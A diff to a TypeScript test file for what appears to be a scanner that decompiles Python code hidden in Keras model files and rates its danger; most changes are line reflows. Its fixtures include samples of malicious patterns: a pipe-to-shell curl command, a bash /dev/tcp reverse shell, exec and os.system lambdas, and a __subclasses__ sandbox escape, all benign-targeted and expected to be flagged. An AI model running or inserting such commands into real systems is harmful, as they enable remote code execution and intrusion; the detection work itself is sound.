@@ -4,10 +4,9 @@ import { judgeCode } from '../../../rules/code';
 import { looksLikeCode, readMarshal } from '..';
 
 /** Code objects by Python version and name, made by tests/fixtures/keras/make_codes.py. */
-const CODES = JSON.parse(readFileSync(join(__dirname, '../../../../../tests/fixtures/keras/codes.json'), 'utf8')) as Record<
-  string,
-  Record<string, string>
->;
+const CODES = JSON.parse(
+  readFileSync(join(__dirname, '../../../../../tests/fixtures/keras/codes.json'), 'utf8')
+) as Record<string, Record<string, string>>;
 const VERSIONS = Object.keys(CODES);
 const PYTHON3 = VERSIONS.filter(version => version !== '2.7');
 
@@ -27,14 +26,26 @@ describe('readMarshal', () => {
     expect(read(version, 'mean').text).toBe('lambda x: tf.reduce_mean(x, axis=[1, 2])');
     expect(read(version, 'exec').text).toBe(`lambda x: exec('import os; os.system("echo hi")') or x`);
     expect(read(version, 'import').text).toBe("lambda x: __import__('os').system('echo hi')");
-    expect(read(version, 'condition').text).toMatch(/^lambda x, y: if x is not None: (return \(x\[0\] - x\[1\]\) \*\* 2; return y|return \(\(x\[0\] - x\[1\]\) \*\* 2\) else y)$/);
-    expect(read(version, 'subclasses').text).toContain("__subclasses__()[132].__init__.__globals__['system']('echo hi')");
-    expect(read(version, 'getattr').text).toMatch(/getattr\(__import__\('subprocess'\), 'Po(pen'|' \+ 'pen')\)\(\['echo', 'x'\], shell=False\) and x$/);
+    expect(read(version, 'condition').text).toMatch(
+      /^lambda x, y: if x is not None: (return \(x\[0\] - x\[1\]\) \*\* 2; return y|return \(\(x\[0\] - x\[1\]\) \*\* 2\) else y)$/
+    );
+    expect(read(version, 'subclasses').text).toContain(
+      "__subclasses__()[132].__init__.__globals__['system']('echo hi')"
+    );
+    expect(read(version, 'getattr').text).toMatch(
+      /getattr\(__import__\('subprocess'\), 'Po(pen'|' \+ 'pen')\)\(\['echo', 'x'\], shell=False\) and x$/
+    );
   });
 
   it.each(PYTHON3)('shows what a function of Python %s does, in handlers and loops too', version => {
     const summary = read(version, 'function');
-    for (const part of ['import os', 'from subprocess import Popen as P', "open('/tmp/x', 'w')", "P(['echo', 'hi'])", "os.remove('a')"]) {
+    for (const part of [
+      'import os',
+      'from subprocess import Popen as P',
+      "open('/tmp/x', 'w')",
+      "P(['echo', 'hi'])",
+      "os.remove('a')"
+    ]) {
       expect(summary.text).toContain(part);
     }
     expect(summary.paths).toEqual(expect.arrayContaining(['subprocess.Popen', 'os.remove', 'open']));
@@ -45,11 +56,29 @@ describe('readMarshal', () => {
     const summary = read(version, 'syntax');
     expect(summary).toMatchObject({ understood: true, complete: true });
     for (const part of [
-      'total = [1, 2] + list(args)', "'b': 2.5, 'c': b'raw', 'd': (3+4j), 'e': 2 ** 100", "table['k'] = {1, 2, x} | frozenset((3, 4))", "'>3')",
-      'call(*args, **kw)', "'key': x", 'first = args[0]', 'rest = args[1:]', 'one = x[0]', 'x.attribute = x.deep.method(one) is two',
-      'x.attribute = x.attribute + 1', "Local = __build_class__(Local, 'Local', Base)", 'item = next(range(10))', 'if item > 5:',
-      "raise AssertionError('message')", 'import a.b.c', 'raise ValueError(x) from None', 'close(x)', 'return (yield inner(1))',
-      'a.b.c.run(ab.other)', 'lambda y, z: y + z', 'class Local: ', 'size = 1'
+      'total = [1, 2] + list(args)',
+      "'b': 2.5, 'c': b'raw', 'd': (3+4j), 'e': 2 ** 100",
+      "table['k'] = {1, 2, x} | frozenset((3, 4))",
+      "'>3')",
+      'call(*args, **kw)',
+      "'key': x",
+      'first = args[0]',
+      'rest = args[1:]',
+      'one = x[0]',
+      'x.attribute = x.deep.method(one) is two',
+      'x.attribute = x.attribute + 1',
+      "Local = __build_class__(Local, 'Local', Base)",
+      'item = next(range(10))',
+      'if item > 5:',
+      "raise AssertionError('message')",
+      'import a.b.c',
+      'raise ValueError(x) from None',
+      'close(x)',
+      'return (yield inner(1))',
+      'a.b.c.run(ab.other)',
+      'lambda y, z: y + z',
+      'class Local: ',
+      'size = 1'
     ]) {
       expect(summary.text).toContain(part);
     }
@@ -99,8 +128,59 @@ describe('readMarshal', () => {
   it('reads data that holds no code without a word', () => {
     expect(readMarshal(bytesOf('Tg=='))).toBeUndefined();
     // (1, 2.5, 'a', b'b', [None, True], {'k': -1}), version 2 of the format.
-    const tuple = [...ascii('('), 6, 0, 0, 0, ...ascii('i'), 1, 0, 0, 0, ...ascii('g'), 0, 0, 0, 0, 0, 0, 4, 64, ...ascii('u'), 1, 0, 0, 0, 97];
-    tuple.push(...ascii('s'), 1, 0, 0, 0, 98, ...ascii('['), 2, 0, 0, 0, ...ascii('NT'), ...ascii('{u'), 1, 0, 0, 0, 107, ...ascii('i'), 255, 255, 255, 255, ...ascii('0'));
+    const tuple = [
+      ...ascii('('),
+      6,
+      0,
+      0,
+      0,
+      ...ascii('i'),
+      1,
+      0,
+      0,
+      0,
+      ...ascii('g'),
+      0,
+      0,
+      0,
+      0,
+      0,
+      0,
+      4,
+      64,
+      ...ascii('u'),
+      1,
+      0,
+      0,
+      0,
+      97
+    ];
+    tuple.push(
+      ...ascii('s'),
+      1,
+      0,
+      0,
+      0,
+      98,
+      ...ascii('['),
+      2,
+      0,
+      0,
+      0,
+      ...ascii('NT'),
+      ...ascii('{u'),
+      1,
+      0,
+      0,
+      0,
+      107,
+      ...ascii('i'),
+      255,
+      255,
+      255,
+      255,
+      ...ascii('0')
+    );
     expect(readMarshal(Uint8Array.from(tuple))).toBeUndefined();
   });
 
@@ -178,11 +258,22 @@ describe('judgeCode', () => {
     ['curl http://127.0.0.1:9/x | sh', ['HIGH', 'os', 'system']],
     ['bash -i >& /dev/tcp/127.0.0.1/9', ['HIGH', 'os', 'system']]
   ])('reads the constant %j', (text, [severity, module, operator]) => {
-    expect(judgeCode({ names: ['f'], paths: ['f'], texts: [text], understood: true })).toMatchObject({ severity, module, operator });
+    expect(judgeCode({ names: ['f'], paths: ['f'], texts: [text], understood: true })).toMatchObject({
+      severity,
+      module,
+      operator
+    });
   });
 
   it('leaves honest constants alone', () => {
-    const texts = ['float32', 'same', 'Scale the inputs by the mean of the batch.', 'bilinear', 'ij,jk->ik', 'https://keras.io'];
+    const texts = [
+      'float32',
+      'same',
+      'Scale the inputs by the mean of the batch.',
+      'bilinear',
+      'ij,jk->ik',
+      'https://keras.io'
+    ];
     expect(judgeCode({ names: ['tf', 'cast'], paths: ['tf', 'tf.cast'], texts, understood: true })).toBeUndefined();
   });
 
